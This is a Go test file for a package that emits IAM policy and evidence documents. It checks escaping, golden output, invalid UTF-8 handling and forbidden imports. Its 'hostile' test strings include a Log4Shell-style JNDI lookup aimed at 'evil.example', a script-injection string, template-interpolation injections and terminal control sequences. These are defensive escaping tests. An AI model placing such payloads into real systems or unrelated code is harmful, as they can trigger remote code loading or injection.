package emit

import (
	"bytes"
	"encoding/json"
	"flag"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/leastpriv/pare/synth/aws"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden with the current output")

// hostile holds strings a log could carry that mean something to one of the
// formats emit writes.
var hostile = []string{
	"arn:aws:s3:::bucket/${jndi:ldap://evil.example/x}",
	"arn:aws:s3:::bucket/${aws_iam_role.x.arn}",
	"arn:aws:s3:::bucket/%{ for x in y }${x}%{ endfor }",
	"arn:aws:s3:::bucket/%{ if true }yes%{ endif }",
	"arn:aws:s3:::bucket/$${already-escaped}%%{too}",
	"arn:aws:s3:::bucket/trailing$",
	"arn:aws:s3:::bucket/trailing%",
	`arn:aws:s3:::bucket/"quoted" and \backslash\ and \n literal`,
	"arn:aws:s3:::bucket/<script>alert(1)</script>&amp;",
	"arn:aws:s3:::bucket/line\nbreak\r\ttab",
	"arn:aws:s3:::bucket/ctrl\x00\x01\x1b[31m\x7f",
	"arn:aws:s3:::bucket/ünïcödé 日本語 😀 \u2028\u2029 \u202e",
	"arn:aws:s3:::bucket/${*}${?}${$}",
}

// hostileDocument is a multi-statement document full of hostile strings.
func hostileDocument() aws.Document {
	return aws.Document{
		Version: aws.Version,
		Statement: []aws.Statement{
			{
				Sid:      "PareRead",
				Effect:   "Allow",
				Action:   []string{"s3:GetObject", "s3:PutObject"},
				Resource: append([]string(nil), hostile...),
			},
			{
				Effect:   "Allow",
				Action:   []string{"sts:AssumeRole"},
				Resource: []string{"arn:aws:iam::123456789012:role/${aws:username}"},
			},
			{
				Sid:      `Sid"with'quotes\and${x}`,
				Effect:   "Allow",
				Action:   []string{"ec2:DescribeInstances"},
				Resource: []string{"*"},
			},
		},
	}
}

// golden compares got with testdata/name, or rewrites the file with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading golden file (run go test -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the output (run go test -update and review the diff):\ngot:\n%s\nwant:\n%s", path, got, want)
	}
}

// normalize makes nil and empty lists equal, as JSON and HCL cannot tell
// them apart.
func normalize(doc aws.Document) aws.Document {
	out := aws.Document{Version: doc.Version, Statement: []aws.Statement{}}
	for _, s := range doc.Statement {
		s.Action = nonNil(s.Action)
		s.Resource = nonNil(s.Resource)
		out.Statement = append(out.Statement, s)
	}
	return out
}

// decodeDocument unmarshals an IAM document strictly: unknown keys fail.
func decodeDocument(t testing.TB, data []byte) aws.Document {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	var doc aws.Document
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("decoding %s: %v", data, err)
	}
	if dec.More() {
		t.Fatalf("trailing data after the document in %s", data)
	}
	return doc
}

func sameDocument(t testing.TB, got, want aws.Document) {
	t.Helper()
	if g, w := normalize(got), normalize(want); !reflect.DeepEqual(g, w) {
		t.Errorf("document does not round-trip:\ngot  %#v\nwant %#v", g, w)
	}
}

func TestEvidenceGolden(t *testing.T) {
	first := time.Date(2024, 3, 1, 10, 0, 0, 0, time.FixedZone("CET", 3600))
	last := time.Date(2024, 3, 9, 23, 59, 59, 0, time.UTC)
	ev := aws.Evidence{
		Principal: "arn:aws:iam::123456789012:role/app-${x}",
		Kind:      "role",
		Actions: []aws.ActionEvidence{
			{
				Action:    "s3:GetObject",
				Count:     42,
				First:     first,
				Last:      last,
				Regions:   []string{"eu-west-1", "us-east-1"},
				Samples:   []string{"0a1b2c3d-0000-0000-0000-000000000001", "<script>", "rlo\u202eexe.txt", "zwj\u200d\U000e0041"},
				Resources: []string{"arn:aws:s3:::bucket/a\"b", "arn:aws:s3:::bucket/c"},
			},
			{
				Action:   "iam:PassRole",
				Count:    1,
				Via:      []string{"cloudformation.amazonaws.com"},
				Inferred: true,
				Denied:   true,
			},
		},
		Generalizations: []aws.Generalization{
			{Action: "s3:ListBucket", Resource: "*", Reason: aws.ReasonNoResource, Recorded: []string{""}},
		},
		Rejected: []string{"s3:NotAnAction"},
	}
	var buf bytes.Buffer
	if err := Evidence(&buf, ev); err != nil {
		t.Fatal(err)
	}
	golden(t, "evidence.golden", buf.Bytes())
	checkVisible(t, buf.Bytes())

	// Parse back: times are RFC 3339 in UTC, zero times are empty, empty
	// lists are [] and omitted fields are absent.
	var got map[string]any
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	actions := got["actions"].([]any)
	a0 := actions[0].(map[string]any)
	if a0["firstSeen"] != "2024-03-01T09:00:00Z" || a0["lastSeen"] != "2024-03-09T23:59:59Z" {
		t.Errorf("times = %v, %v; want UTC RFC 3339", a0["firstSeen"], a0["lastSeen"])
	}
	if _, ok := a0["via"]; ok {
		t.Errorf("empty via is written: %v", a0)
	}
	a1 := actions[1].(map[string]any)
	if a1["firstSeen"] != "" || a1["inferred"] != true || a1["deniedAttempts"] != true {
		t.Errorf("second action = %v", a1)
	}
	if r, ok := a1["regions"].([]any); !ok || len(r) != 0 {
		t.Errorf("nil regions written as %#v, want []", a1["regions"])
	}
	if got["principal"] != ev.Principal {
		t.Errorf("principal = %v", got["principal"])
	}
}

func TestEvidenceEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := Evidence(&buf, aws.Evidence{Principal: "p"}); err != nil {
		t.Fatal(err)
	}
	want := `{
  "principal": "p",
  "kind": "",
  "actions": [],
  "generalizations": [],
  "rejected": []
}
`
	if buf.String() != want {
		t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
	}
}

func TestEvidenceInvalidUTF8(t *testing.T) {
	for _, ev := range []aws.Evidence{
		{Principal: "role/\xff"},
		{Principal: "p", Actions: []aws.ActionEvidence{{Action: "s3:GetObject", Resources: []string{"a\xc3"}}}},
		{Principal: "p", Generalizations: []aws.Generalization{{Action: "s3:GetObject", Recorded: []string{"\xed\xa0\x80"}}}},
		{Principal: "p", Rejected: []string{"\x80"}},
	} {
		var buf bytes.Buffer
		if err := Evidence(&buf, ev); err == nil {
			t.Errorf("Evidence(%+v) succeeded, want an error for invalid UTF-8", ev)
		}
		if buf.Len() != 0 {
			t.Errorf("Evidence wrote %q before failing", buf.String())
		}
	}
}

// TestImports: emit never imports the store, a cloud SDK or DuckDB (doc.go).
func TestImports(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	forbidden := []string{"github.com/leastpriv/pare/usage", "github.com/leastpriv/pare/cmd", "github.com/aws/", "github.com/duckdb/", "os/exec"}
	checked := 0
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(token.NewFileSet(), name, nil, parser.ImportsOnly)
		if err != nil {
			t.Fatal(err)
		}
		checked++
		for _, imp := range f.Imports {
			path, _ := strconv.Unquote(imp.Path.Value)
			for _, bad := range forbidden {
				if strings.HasPrefix(path, bad) {
					t.Errorf("%s imports %s", name, path)
				}
			}
		}
	}
	if checked == 0 {
		t.Fatal("no source files checked")
	}
}
